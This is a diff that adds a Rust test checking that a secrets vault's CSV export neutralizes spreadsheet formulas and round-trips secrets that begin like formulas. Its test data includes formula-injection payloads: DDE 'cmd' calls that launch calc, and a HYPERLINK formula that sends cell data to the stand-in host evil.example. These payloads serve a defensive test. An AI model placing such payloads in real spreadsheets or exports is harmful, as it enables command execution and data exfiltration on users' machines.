@@ -330,3 +330,53 @@ fn a_plain_json_file_carrying_events_imports_no_history() {
     assert!(!serde_json::to_string(&events).unwrap().contains("forged"));
     v.verify_log().unwrap();
 }
+
+#[test]
+fn csv_exports_neutralize_formulas_in_every_cell_and_round_trip_secrets_that_start_like_one() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut source = vault(&dir.path().join("a"));
+    // Secrets and names a spreadsheet would run as formulas, and ones that already start with a quote.
+    let cases = [
+        ("=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/\"&A1)xyzxyz"),
+        ("+plus", "+1+1secretsecretsecret"),
+        ("-dash", "-tokenStartingWithDash0123456789"),
+        ("@at", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("'=quoted", "'=already-quoted-secret-0123456789"),
+        ("''-twice", "''-twice-quoted-secret-0123456789"),
+        ("'plain", "'plain-quoted-secret-0123456789"),
+    ];
+    for (name, value) in cases {
+        let mut t = NewToken::new(name, ProviderId::generic(), TokenKind::ApiKey, secret(value));
+        t.notes = Some(format!("{name} note"));
+        t.account = Some(format!("{name}@example.com"));
+        source.add_token(t, now()).unwrap();
+    }
+    let mut options = ExportOptions::new(ExportFormat::Csv);
+    options.include_secrets = true;
+    let exported = source.export(&options, now()).unwrap();
+
+    let mut reader = csv::Reader::from_reader(&exported.bytes[..]);
+    let headers = reader.headers().unwrap().clone();
+    assert_eq!(&headers[1], "secret");
+    let mut rows = 0;
+    for row in reader.records() {
+        let row = row.unwrap();
+        rows += 1;
+        for (header, cell) in headers.iter().zip(row.iter()) {
+            let formula = cell.trim_start_matches('\'').starts_with(['=', '+', '-', '@', '\t', '\r']);
+            assert!(!formula || cell.starts_with('\''), "{header} cell {cell:?} would run as a formula");
+        }
+    }
+    assert_eq!(rows, cases.len());
+
+    let mut target = vault(&dir.path().join("b"));
+    assert_eq!(import(&mut target, &exported.bytes, None, OnDuplicate::Skip).created, cases.len());
+    for (name, value) in cases {
+        let found = target.find_by_secret(&secret(value)).unwrap();
+        assert_eq!(found.len(), 1, "secret of {name:?} came back unchanged");
+        let token = target.token(&found[0]).unwrap();
+        assert_eq!(token.name, name);
+        assert_eq!(token.notes.as_deref(), Some(format!("{name} note").as_str()));
+        assert_eq!(token.account.as_deref(), Some(format!("{name}@example.com").as_str()));
+    }
+}
